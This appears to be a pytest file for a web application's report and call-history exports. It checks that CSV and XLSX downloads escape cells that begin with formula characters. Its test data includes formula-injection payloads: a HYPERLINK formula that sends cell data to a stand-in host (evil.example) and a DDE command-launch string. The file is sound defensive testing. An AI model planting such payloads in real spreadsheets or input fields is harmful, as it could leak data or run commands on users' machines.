"""Spreadsheet exports neutralise formula injection: every download (the reports' tables and the
call history, both through models/reports/export.py) writes a text cell starting with = + - @, a
tab or a carriage return with a leading apostrophe, in CSV and in XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from models.core.db import unit_of_work
from models.reference.departments import Department
from models.reports.export import FORMULA_STARTS, export
from tests.desk.conftest import log_in

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+91 formula", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
PLAIN = ["राजस्व विभाग", "Revenue", "3 - 2", "a=b", ""]


def _cells(kind: str, body: bytes) -> list[list]:
    if kind == "csv":
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    return [[cell.value for cell in row] for row in load_workbook(io.BytesIO(body)).active.iter_rows()]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_cell_that_would_be_a_formula_is_written_as_text(kind):
    body = export(kind, ["=header", "number"], [[value, -5] for value in HOSTILE + PLAIN])
    rows = _cells(kind, body)
    assert rows[0][0] == "'=header"
    assert [row[0] and row[0].replace("\n", "\r") for row in rows[1:]] == ["'" + v for v in HOSTILE] + [v or (None if kind == "xlsx" else "")
                                                                          for v in PLAIN]
    assert all(row[1] in (-5, "-5") for row in rows[1:])  # numbers stay numbers
    if kind == "xlsx":
        sheet = load_workbook(io.BytesIO(body)).active
        assert all(cell.data_type == "s" for cell in sheet["A"] if cell.value)  # no formula cell


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_reports_download_neutralises_a_hostile_department_name(reports_db, reports_app, kind):
    with unit_of_work() as uow:
        old = uow.session.get(Department, "REV").name_en
        uow.session.execute(update(Department).where(Department.code == "REV").values(name_en=HOSTILE[0]))
        uow.commit()
    try:
        client = log_in(reports_app.test_client(), "goodgov")
        response = client.get(f"/reports/?from=2025-03-01&to=2025-04-10&table=departments&format={kind}&lang=en")
        assert response.status_code == 200
        cells = [value for row in _cells(kind, response.data) for value in row if isinstance(value, str)]
        assert "'" + HOSTILE[0] in cells
        assert not any(value.startswith(FORMULA_STARTS) for value in cells)
    finally:
        with unit_of_work() as uow:
            uow.session.execute(update(Department).where(Department.code == "REV").values(name_en=old))
            uow.commit()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_call_history_download_has_no_formula_cell(reports_app, kind):
    response = log_in(reports_app.test_client(), "supervisor").get(f"/supervisor/history?day=2026-01-05&format={kind}")
    assert response.status_code == 200
    cells = [value for row in _cells(kind, response.data) for value in row if isinstance(value, str)]
    assert cells and not any(value.startswith(FORMULA_STARTS) for value in cells)
